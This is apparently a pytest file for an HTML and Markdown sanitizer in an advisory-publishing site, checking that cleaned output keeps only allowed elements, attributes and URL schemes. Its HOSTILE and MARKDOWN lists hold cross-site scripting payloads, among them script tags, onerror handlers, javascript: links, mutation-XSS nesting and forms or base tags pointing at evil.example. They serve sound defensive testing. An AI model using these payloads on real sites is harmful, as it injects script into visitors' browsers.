"""
Nothing that runs, loads from elsewhere or takes over an id of ours comes through the cleaner.
"""

from __future__ import annotations

import pytest

from advisorypress.language import Language
from advisorypress.render.clean import clean_html
from advisorypress.render.markdown import markdown_html
from advisorypress.render.prose import prose_html
from advisorypress.wording import standard_wording
from tests.render.pages import parse

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="/x.png" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT&#58;alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<p style="background:url(//evil.example/)">x</p><style>p{}</style>',
    '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/">',
    '<p onclick="x()" id="main" class="press-notice">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<video src="//evil.example/" autoplay onplay="x()"></video>',
    "<!--><script>alert(1)</script>-->",
    '<a href="/x" target="_blank" ping="//evil.example/">x</a>',
    '<img src="/a.png" srcset="//evil.example/b.png 2x">',
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#x3a;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,x)",
    "![x](https://evil.example/pixel.png)",
    '[x](/ok/ "\\" onmouseover=alert(1) x=\\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
]

ALLOWED_ATTRIBUTES = {
    "a": {"href", "rel", "lang", "id"},
    "img": {"src", "alt"},
    "td": {"class"},
    "th": {"class", "scope"},
    "div": {"class", "tabindex"},
    "pre": {"tabindex"},
    "li": {"class", "id"},
    "ol": {"start"},
    "sup": {"id"},
}
FORBIDDEN = {"script", "style", "iframe", "svg", "math", "form", "input", "object", "embed", "base", "meta", "link"}


def assert_harmless(html: str) -> None:
    """
    Only elements and attributes that the cleaner lets through, and only addresses that stay or name a harmless scheme.
    """
    for element in parse(html).all():
        assert element.name not in FORBIDDEN
        assert set(element.attributes) <= ALLOWED_ATTRIBUTES.get(element.name, set()) | {"lang"}, element
        assert "press-notice" not in element.classes
        for name in ("href", "src"):
            address = element.attributes.get(name)
            if address is None:
                continue
            scheme = address.partition(":")[0] if ":" in address else ""
            assert not address.replace("\\", "/").startswith("//")
            assert scheme in ("", "http", "https", "mailto", "tel") and (name == "href" or not scheme), element


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_comes_out_harmless(html: str):
    """
    Each way of running or loading something is taken out.
    """
    assert_harmless(clean_html(html))


@pytest.mark.parametrize("text", [*MARKDOWN, *HOSTILE])
def test_hostile_advisory_body_comes_out_harmless(text: str):
    """
    Whether it is Markdown or raw HTML in it.
    """
    html = markdown_html(f"Before.\n\n{text}\n\nIn a line {text} and a cell:\n\n| a |\n|---|\n| {text} |\n")

    assert_harmless(html)
    assert html.startswith("<p>Before.</p>")


@pytest.mark.parametrize("text", [*MARKDOWN, *HOSTILE])
def test_hostile_prose_comes_out_harmless(text: str):
    """
    Python-Markdown passes raw HTML on, so the cleaner is all that stands between.
    """
    html = prose_html(f"Before.\n\n{text}\n\nAnd {text}.\n", Language.EN, standard_wording())

    assert_harmless(html)
    assert html.startswith("<p>Before.</p>")


def test_raw_html_is_left_out_of_advisories():
    """
    Also the harmless kind: an advisory is CommonMark with tables.
    """
    assert "<p>a b c</p>" == markdown_html("a <b>b</b> <sub>c</sub>").strip()


def test_bare_addresses_stay_text():
    """
    An advisory may have to name a harmful address, and nobody should be one click from it.
    """
    assert "<a" not in markdown_html("It calls https://evil.example/ and www.evil.example.")


def test_alignment_is_a_class():
    """
    A style attribute is against the site's policy, and `align` is against HTML.
    """
    table = "| a | b |\n|:--|--:|\n| 1 | 2 |\n"

    for html in (markdown_html(table), prose_html(table, Language.EN, standard_wording())):
        cells = parse(html).all("td")
        assert [{"class": "press-align-left"}, {"class": "press-align-right"}] == [cell.attributes for cell in cells]


def test_wide_content_scrolls_in_its_own_box_by_keyboard():
    """
    A table and a code block are boxes that can have the focus.
    """
    page = parse(markdown_html("| a |\n|---|\n| 1 |\n\n```\nlong\n```\n"))

    assert "0" == page.one("div", "press-scroll").attributes["tabindex"]
    assert "0" == page.one("pre").attributes["tabindex"]


def test_cells_of_a_wide_table_say_what_their_columns_are_called():
    """
    On a phone each row is a card. Two columns fit beside each other, and cells over several columns are no rows of facts.
    """
    wide = parse(markdown_html('| A | *B* "c" | D & e |\n|---|---|---|\n| 1 | 2 | 3 |\n| 4 | 5 | 6 |\n'))
    narrow = parse(markdown_html("| A | B |\n|---|---|\n| 1 | 2 |\n"))
    spanning = (
        "<table><thead><tr><th>A</th><th>B</th><th>C</th></tr></thead><tr><td colspan=2>1</td><td>2</td></tr></table>"
    )

    assert ["A", 'B "c"', "D & e"] * 2 == [cell.attributes["data-label"] for cell in wide.all("td")]
    assert "press-rows" in wide.one("div", "press-scroll").attributes["class"]
    assert [{}, {}] == [cell.attributes for cell in narrow.all("td")]
    assert "press-rows" not in clean_html(spanning)


def test_picture_from_elsewhere_becomes_its_words():
    """
    Loading it would tell its host who reads the page.
    """
    assert "<p>A graph</p>" == markdown_html("![A graph](https://elsewhere.example/graph.png)").strip()


def test_link_that_leads_nowhere_becomes_its_words():
    """
    An `a` without address has no `rel` either.
    """
    assert "<p>here</p>" == markdown_html("[here](javascript:x)").strip()


def test_task_items_are_marked():
    """
    In both kinds of Markdown, tight or loose, and no form control is needed for it.
    """
    text = "- [ ] **One.** Why.\n\n- [x] Two.\n"

    for html in (markdown_html(text), prose_html(text, Language.EN, standard_wording())):
        items = parse(html).all("li", "press-task")
        assert ["One. Why.", "Two."] == [item.text for item in items]


def test_footnotes_lead_there_and_back():
    """
    Their ids are the only ones an author's text may bring.
    """
    page = parse(prose_html("Text.[^a]\n\n[^a]: Note.\n", Language.ZH, standard_wording()))
    ids = {element.attributes["id"] for element in page.all() if "id" in element.attributes}
    targets = {link.attributes["href"].removeprefix("#") for link in page.all("a")}

    assert {"fnref:a", "fn:a"} == ids == targets
    assert "返回正文" in page.text


def test_prose_reads_what_the_engine_reads():
    """
    Definition lists, fenced code and attribute lists, of which only the words stay.
    """
    page = parse(
        prose_html("Term\n:   Meaning.\n\n```sh\nls\n```\n\nText.\n{: .big #main }\n", Language.EN, standard_wording())
    )

    assert ("Term", "Meaning.") == (page.one("dt").text, page.one("dd").text)
    assert "ls" == page.one("code").text
    assert {} == page.all("p")[-1].attributes and "Text." == page.all("p")[-1].text


def test_the_headings_that_our_mails_link_to() -> None:
    """
    `{#leave}` and its like name a heading, once a page and nothing but a heading; every other name could be the theme's own.
    """
    text = (
        "## Leave {#leave}\n\n## Again {#leave}\n\n## Main {#main}\n\n### Genuine {#genuine}\n\nWords.\n{: #change }\n"
    )

    html = prose_html(text, Language.EN, standard_wording())

    assert '<h2 id="leave">Leave</h2>' in html
    assert "<h2>Again</h2>" in html
    assert 1 == html.count(" id=")
